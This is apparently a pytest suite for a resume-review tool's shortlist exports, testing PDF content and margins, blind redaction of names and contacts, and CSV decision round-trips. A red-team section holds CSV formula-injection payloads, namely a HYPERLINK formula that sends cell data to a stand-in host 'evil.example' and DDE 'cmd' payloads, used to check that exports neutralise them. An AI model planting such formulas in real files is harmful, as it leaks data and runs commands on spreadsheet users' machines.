"""Exports for hiring managers: read the PDF back, look at its pages, round-trip the CSV."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys

import pytest

from review.exports import CSV_COLUMNS, build_shortlist, import_decisions, to_csv, to_html
from review.jobs import resolve_job
from review.workflow import application_for, set_status
from tests.worlds import make_people


@pytest.fixture
def shortlisted(tmp_path, monkeypatch):
    store, job_id, ids, _settings = make_people(tmp_path, monkeypatch)
    for name in ("ana.txt", "cy.txt"):
        set_status(
            store, application_for(store, ids[name], job_id)["id"], "shortlisted", "Robin Reviewer"
        )
    with store.transaction() as conn:
        conn.execute(
            "UPDATE applications SET brings = ? WHERE person_id = ?",
            (
                "Ana Quintero Bravo built Pagora's settlement service and mentors juniors with "
                "patience.",
                ids["ana.txt"],
            ),
        )
    yield store, resolve_job(store, job_id), ids
    store.close()


def pdf_text(path) -> str:
    from pdfminer.high_level import extract_text

    return " ".join(extract_text(str(path)).split())


def test_pdf_holds_the_job_the_ranking_and_each_person(shortlisted, tmp_path):
    from app.exporting import export_shortlist

    store, job, _ids = shortlisted
    path, count = export_shortlist(
        store, job, "pdf", tmp_path / "out.pdf", reviewer="Robin Reviewer"
    )
    assert count == 2
    text = pdf_text(path)
    for expected in (
        "Backend Engineer",
        "Python — must-have",
        "PostgreSQL (weight 2)",
        "Robin Reviewer",
        "Ranked summary",
        "Ana Quintero Bravo",
        "Cyrille Ombeni Matondo",
        "What this person brings",
        "settlement service",
        "ana.quintero@example.org",
        "Your decision",
        "Yes",
        "Maybe",
        "No",
    ):
        assert expected in text, expected
    assert "Bo Lindqvist-Haraldsen" not in text  # not shortlisted
    pages = re.findall(r"page (\d+) of (\d+)", text)
    assert (
        pages and all(total == pages[0][1] for _, total in pages) and len(pages) == int(pages[0][1])
    )
    # Evidence quotes from the resume are there.
    assert "Built the settlement service in Python" in text


def test_blind_pdf_has_no_names_contacts_or_locations(shortlisted, tmp_path):
    from app.exporting import export_shortlist
    from review.people import pseudonym

    store, job, ids = shortlisted
    path, _ = export_shortlist(store, job, "pdf", tmp_path / "blind.pdf", blind=True)
    text = pdf_text(path)
    for secret in (
        "Ana",
        "Quintero",
        "Cyrille",
        "Ombeni",
        "ana.quintero@example.org",
        "+34",
        "Valencia",
        "Lyon",
    ):
        assert secret not in text, secret
    assert pseudonym(ids["ana.txt"], job.id) in text
    assert "settlement service" in text  # the reviewer's words stay, with the name taken out


@pytest.mark.parametrize("page", ["A4", "Letter"])
def test_rendered_pages_keep_clear_of_the_edges(shortlisted, tmp_path, page, qapp):
    """Nothing cut off at page edges: render every page (Qt's PDF renderer) and check the margins
    carry no ink."""
    from PySide6.QtCore import QSize, Qt
    from PySide6.QtGui import QImage, QPainter
    from PySide6.QtPdf import QPdfDocument

    from app.exporting import export_shortlist

    store, job, _ = shortlisted
    path, _ = export_shortlist(store, job, "pdf", tmp_path / "out.pdf", include="all", page=page)
    document = QPdfDocument()
    document.load(str(path))
    assert document.status() == QPdfDocument.Status.Ready
    assert document.pageCount() >= 4  # the summary, then one page per person
    for number in range(document.pageCount()):
        points = document.pagePointSize(number)
        scale = 40 / 72  # 40 dpi
        rendered = document.render(
            number, QSize(int(points.width() * scale), int(points.height() * scale))
        )
        # Rendered on transparency: put it on white paper first.
        image = QImage(rendered.size(), QImage.Format_RGB32)
        image.fill(Qt.white)
        painter = QPainter(image)
        painter.drawImage(0, 0, rendered)
        painter.end()
        margin = int(40 * 8 / 25.4)  # 8 mm
        inked = sum(
            1
            for x in list(range(margin)) + list(range(image.width() - margin, image.width()))
            for y in range(0, image.height(), 2)
            if image.pixelColor(x, y).lightness() < 200
        )
        assert inked == 0, f"page {number + 1}: {inked} dark pixels in the left/right margins"
        text_pixels = sum(
            1
            for y in range(0, image.height(), 2)
            for x in range(margin, image.width() - margin, 2)
            if image.pixelColor(x, y).lightness() < 160
        )
        assert text_pixels > 20, f"page {number + 1} is blank"


def test_html_is_self_contained_and_prints_well(shortlisted):
    store, job, _ = shortlisted
    page = to_html(build_shortlist(store, job))
    assert not re.search(
        r"""<(?:link|script)[^>]*(?:src|href)\s*=|url\(\s*['"]?https?:|<img[^>]+src=['"]?https?:""",
        page,
    )
    assert "@media print" in page and "page-break-inside: avoid" in page
    assert "Ana Quintero Bravo" in page and "Your decision" in page
    blind = to_html(build_shortlist(store, job, blind=True))
    assert "Ana Quintero Bravo" not in blind and "ana.quintero@example.org" not in blind


def test_csv_columns_and_decisions_round_trip(shortlisted):
    store, job, ids = shortlisted
    data = to_csv(build_shortlist(store, job, include="all"))
    rows = list(csv.DictReader(io.StringIO(data)))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert {"manager_decision", "manager_comment"} <= set(rows[0])
    assert len(rows) == 3
    by_id = {int(r["person_id"]): r for r in rows}
    by_id[ids["ana.txt"]]["manager_decision"] = "Yes"
    by_id[ids["cy.txt"]]["manager_decision"] = "no"
    by_id[ids["cy.txt"]]["manager_comment"] = "We need someone with payments experience."
    by_id[ids["bo.txt"]]["manager_decision"] = "perhaps"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(by_id.values())
    result = import_decisions(store, job, out.getvalue(), "Robin Reviewer", "answers.csv")
    assert sorted(result.applied) == sorted([(ids["ana.txt"], "yes"), (ids["cy.txt"], "no")])
    assert (
        len(result.problems) == 1
        and "perhaps" in result.problems[0]
        and "line" in result.problems[0]
    )
    cy = application_for(store, ids["cy.txt"], job.id)
    assert cy["manager_decision"] == "no" and "payments" in cy["manager_comment"]
    # A manager's "no" is a suggestion: the status is untouched, nobody is let go by it.
    assert cy["status"] == "shortlisted"
    assert (
        store.scalar("SELECT count(*) FROM applications WHERE status IN ('letting_go', 'let_go')")
        == 0
    )


def test_import_decisions_names_a_wrong_file(shortlisted):
    store, job, _ = shortlisted
    result = import_decisions(store, job, "name,decision\nAna,yes\n", "me", "wrong.csv")
    assert (
        not result.applied
        and "missing column" in result.problems[0]
        and "wrong.csv" in result.problems[0]
    )


def test_cli_export_and_import_decisions(shortlisted, tmp_path):
    store, job, _ids = shortlisted
    db = str(store.path)
    cli = [sys.executable, "-m", "app.cli"]
    out = subprocess.run(
        [
            *cli,
            "export",
            "--job",
            job.title,
            "--format",
            "csv",
            "--out",
            str(tmp_path),
            "--include",
            "all",
            "--db",
            db,
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    written = next(tmp_path.glob("shortlist-*.csv"))
    text = written.read_text(encoding="utf-8-sig").replace(
        ",shortlisted,,", ",shortlisted,maybe,Let's talk"
    )
    answers = tmp_path / "answers.csv"
    answers.write_text(text, encoding="utf-8")
    back = subprocess.run(
        [*cli, "import-decisions", str(answers), "--job", str(job.id), "--db", db],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert back.returncode == 0, back.stderr
    assert "2 maybe" in back.stdout


# --- red team (issue 13, item 8): CSV formula injection -------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2&B2,"Berlin")'
DDE = "+cmd|' /C calc'!A0"
EVE = f"""Eve Mallory
eve@example.org | +49 176 31387734

Experience
Engineer, Acme 2019 - Present
{DDE} Python and PostgreSQL services
{HYPERLINK} Kubernetes

Skills
Python, PostgreSQL
"""


@pytest.fixture
def poisoned(shortlisted, tmp_path):
    """A resume whose lines are formulas, and a record whose fields are too (as a parser may
    take them)."""
    from review.importer import Importer, ImportOptions

    store, job, ids = shortlisted
    (tmp_path / "eve.txt").write_text(EVE, encoding="utf-8")
    Importer(store, ImportOptions(job_id=job.id, workers=1)).run([tmp_path / "eve.txt"])
    eve = store.scalar("SELECT id FROM people WHERE name = 'Eve Mallory'")
    with store.transaction() as conn:
        conn.execute(
            "UPDATE people SET location = ?, title = ?, links = ? WHERE id = ?",
            (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "[\"-2+3+cmd|' /C calc'!A0\"]", eve),
        )
        conn.execute(
            "UPDATE applications SET manager_comment = '=1+1 and -2 more', brings = ? "
            "WHERE person_id = ?",
            ("\t=cmd|' /C calc'!A0 — Eve built Kafka services", eve),
        )
    return store, job, ids | {"eve": eve}


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_attack_csv_formula_injection_is_neutralised_and_phones_stay_text(poisoned, tmp_path):
    from review.exports import FORMULA_STARTS

    store, job, ids = poisoned
    done = _export(store, job, "csv", tmp_path / "s.csv")
    assert done.returncode == 0, done.stderr
    rows = _cells((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))
    for row in rows:
        for column, cell in row.items():
            # What Excel and LibreOffice evaluate: a cell that starts with a formula character.
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)
    eve = next(r for r in rows if int(r["person_id"]) == ids["eve"])
    assert eve["location"] == "'" + HYPERLINK  # shown as written, one quote in front
    assert eve["evidence"].startswith("'" + DDE)
    assert eve["links"].startswith("'-2+3") and eve["brings"].startswith("'\t=cmd")
    assert eve["headline"].startswith("'@SUM(1+1)")
    # Phones: grouped, so never a long number Excel rounds or strips; the leading + made safe.
    assert eve["phones"] == "'+49 176 31387734"
    ana = next(r for r in rows if int(r["person_id"]) == ids["ana.txt"])
    assert ana["phones"] == "'+34 612 34 56 78"


def test_the_neutralised_csv_round_trips_through_import_decisions(poisoned, tmp_path):
    store, job, ids = poisoned
    rows = _cells(to_csv(build_shortlist(store, job, include="all")))
    eve = next(r for r in rows if int(r["person_id"]) == ids["eve"])
    assert eve["manager_comment"] == "'=1+1 and -2 more"
    eve["manager_decision"] = "no"  # the manager answers and leaves the earlier comment as exported
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    result = import_decisions(store, job, out.getvalue(), "Robin Reviewer", "answers.csv")
    assert result.applied == [(ids["eve"], "no")] and result.problems == []
    back = application_for(store, ids["eve"], job.id)
    assert back["manager_comment"] == "=1+1 and -2 more"  # as written, not with the export's quote


@pytest.mark.parametrize(
    "phones, cell",
    [
        (["+4917631387734"], "'+49 176 31387734"),
        (["01761234567"], "'01761234567"),  # as printed, all digits: text, with its leading 0
        (["030 1234567"], "030 1234567"),  # spaces already keep it text
        (["+33612345678", "+4917631387734"], "'+33 6 12 34 56 78; +49 176 31387734"),
    ],
)
def test_phones_are_written_so_a_spreadsheet_neither_evaluates_nor_mangles_them(phones, cell):
    from review.exports import phone_cell

    assert phone_cell(phones) == cell


def test_import_decisions_survives_a_row_longer_than_its_header(shortlisted):
    store, job, ids = shortlisted
    text = f"person_id,manager_decision,manager_comment\n{ids['ana.txt']},yes,fine,extra,cells\n"
    result = import_decisions(store, job, text, "Robin Reviewer", "long.csv")
    assert result.applied == [(ids["ana.txt"], "yes")]


# --- red team (issue 13, item 9): exports to a full disk or an unwritable path --------------------


def _export_args(store, job, fmt: str, out) -> list[str]:
    return [
        "export",
        "--job",
        job.title,
        "--format",
        fmt,
        "--out",
        str(out),
        "--include",
        "all",
        "--db",
        str(store.path),
    ]


def _export(store, job, fmt: str, out) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "app.cli", *_export_args(store, job, fmt, out)],
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize("fmt", ["pdf", "html", "csv"])
def test_attack_an_export_to_an_unwritable_path_says_why_exits_1_and_leaves_nothing(
    shortlisted, fmt
):
    store, job, _ = shortlisted
    before = open("/proc/version", "rb").read()
    done = _export(store, job, fmt, "/proc/version")
    assert done.returncode == 1, done.stdout
    assert (
        done.stderr.startswith("shortlist: could not write /proc/version: ")
        and done.stderr.count("\n") == 1
    )
    assert "Traceback" not in done.stderr and "Wrote" not in done.stdout
    assert open("/proc/version", "rb").read() == before
    assert store.scalar("SELECT count(*) FROM exports_written") == 0


def test_attack_an_export_onto_a_device_is_refused(shortlisted):
    import stat

    store, job, _ = shortlisted
    done = _export(store, job, "csv", "/dev/full")
    assert (
        done.returncode == 1
        and "not an ordinary file" in done.stderr
        and "Traceback" not in done.stderr
    )
    assert stat.S_ISCHR(
        __import__("os").stat("/dev/full").st_mode
    )  # still the device, not replaced


@pytest.mark.parametrize("fmt", ["pdf", "html", "csv"])
def test_attack_a_full_disk_during_an_export_leaves_no_file(
    shortlisted, tmp_path, monkeypatch, capsys, fmt
):
    """ENOSPC half-way through the write: no truncated file, the reason, exit 1."""
    import errno
    import os

    import review.written
    from app.cli import main

    store, job, _ = shortlisted
    real_write = os.write

    def write_until_full(fd, data):
        real_write(fd, bytes(data[:100]))  # some bytes reach the disk, then it is full
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(review.written.os, "write", write_until_full)
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / f"shortlist.{fmt}"
    code = main(_export_args(store, job, fmt, out))
    err = capsys.readouterr().err
    assert code == 1
    assert (
        err == f"shortlist: could not write {out}: No space left on device; nothing was written\n"
    )
    assert list(folder.iterdir()) == []  # neither the export nor its temporary file


def test_a_successful_export_replaces_the_old_file_whole_and_is_on_record(shortlisted, tmp_path):
    store, job, ids = shortlisted
    out = tmp_path / "s.html"
    out.write_text("an older export", encoding="utf-8")
    done = _export(store, job, "html", out)
    assert done.returncode == 0 and f"Wrote {out}" in done.stdout
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    row = store.one("SELECT kind, path, people FROM exports_written")
    assert row["kind"] == "shortlist" and row["path"] == str(out.resolve())
    assert set(json.loads(row["people"])) == set(ids.values())


# --- red team (issue 13, item 10): blind export redaction -----------------------------------------

BLIND_RESUMES = {
    "ana.txt": """Ana Lyt
ana.lyt@example.org | +49 176 31387734 | Hauptstraße 12, 10115 Berlin | github.com/analyt

Summary
Summary: Ana Lyt built Analytics dashboards in Python for the data team.

Experience
Analyst, Lytics GmbH 2019 - Present
- Ana's PostgreSQL reports, signed ANA LYT, reviewed by Analytics leads
- Kubernetes demos: ana.lyt@example.org or +49 (0)176 3138 7734, code at github.com/analyt/k8s
- Python meetup host at Hauptstrasse 12, Berlin

Skills
Python, PostgreSQL, Kubernetes
""",
    "rose.txt": """Rose Bo
rose.bo@example.net | Lyon, France

Summary
Engineer who grew a rose garden of Python services; colleagues call her rose.

Experience
Engineer, Boston Dynamics of Lyon 2018 - Present
- Bo ran PostgreSQL and Kubernetes for the Boston office

Skills
Python, PostgreSQL, Kubernetes
""",
}


@pytest.fixture
def blind_world(tmp_path, monkeypatch):
    store, job_id, ids, _ = make_people(tmp_path, monkeypatch, resumes=BLIND_RESUMES)
    with store.transaction() as conn:
        conn.execute(
            "UPDATE people SET location = 'Hauptstraße 12, 10115 Berlin' WHERE id = ?",
            (ids["ana.txt"],),
        )
        conn.execute(
            "UPDATE applications SET brings = ? WHERE person_id = ?",
            (
                "ANA built the analytics stack; Ána mentors juniors; "
                "reach her at ANA.LYT@EXAMPLE.ORG.",
                ids["ana.txt"],
            ),
        )
        conn.execute(
            "UPDATE applications SET manager_comment = 'Talk to Lyt first' WHERE person_id = ?",
            (ids["ana.txt"],),
        )
    yield store, resolve_job(store, job_id), ids
    store.close()


def _texts(person) -> list[str]:
    """Every text a blind export prints about one person."""
    out = [
        person.name,
        person.headline,
        person.brings,
        person.manager_comment or "",
        *person.reasons,
    ]
    for part in person.parts:
        out += [*part.quotes, part.note or ""]
    return out


SECRETS = re.compile(
    r"(?i)(?<!\w)(?:ana|lyt|rose|bo|h[aä]uptstra(?:ss|ß)e|10115|berlin|lyon)(?!\w)|analyt\b|"
    r"@example|3138|176|github\.com"
)


def test_attack_a_blind_export_shows_no_name_contact_link_or_address_in_any_field(blind_world):
    store, job, ids = blind_world
    shortlist = build_shortlist(store, job, include="all", blind=True)
    texts = {p.person_id: _texts(p) for p in shortlist.people}
    for person_id, person_texts in texts.items():
        for text in person_texts:
            assert not SECRETS.search(text), (person_id, text)
    ana = "\n".join(texts[ids["ana.txt"]])
    # Names that are word prefixes stay words; the name goes, in any case or accent.
    assert "[name]'s PostgreSQL reports, signed [name], reviewed by Analytics leads" in ana
    assert "Python meetup host at [address], [place]" in ana
    assert "[name] built the analytics stack; [name] mentors juniors; reach her at [email]." in ana
    assert "Kubernetes demos: [email] or [phone], code at [link]" in ana
    assert "Talk to [name] first" in ana
    rose = "\n".join(texts[ids["rose.txt"]])
    # A name that is also a common word is still their name while blind: whole words only.
    assert "grew a [name] garden" in rose and "call her [name]" in rose
    assert "Boston" in rose and "[name] ran PostgreSQL" in rose
    # Every format prints the same redacted words.
    for output in (to_html(shortlist), to_csv(shortlist)):
        assert "Ana Lyt" not in output and "ana.lyt" not in output.lower() and "Analytics" in output
        assert not re.search(r"(?i)(?<!\w)(?:ana|lyt|rose)(?!\w)", output.replace("Rose Bo", "")), (
            output
        )


def test_a_blind_pdf_keeps_word_prefixes_and_drops_the_name(blind_world, tmp_path):
    from app.exporting import export_shortlist

    store, job, _ids = blind_world
    path, _ = export_shortlist(store, job, "pdf", tmp_path / "blind.pdf", include="all", blind=True)
    text = pdf_text(path)
    assert (
        not re.search(r"(?i)(?<!\w)(?:ana|lyt)(?!\w)", text)
        and "Analytics" in text
        and "[name]" in text
    )


def test_the_managers_page_says_who_prepared_it_and_keeps_the_street_out(shortlisted):
    store, job, ids = shortlisted
    with store.transaction() as conn:
        conn.execute(
            "UPDATE people SET location = ? WHERE id = ?",
            ("Calle de Colón 12, 46004 Valencia, Spain", ids["ana.txt"]),
        )
    page = to_html(build_shortlist(store, job, reviewer="Sam Okafor"))
    assert "prepared by Sam Okafor" in page
    assert "Valencia" in page and "Colón 12" not in page and "46004" not in page
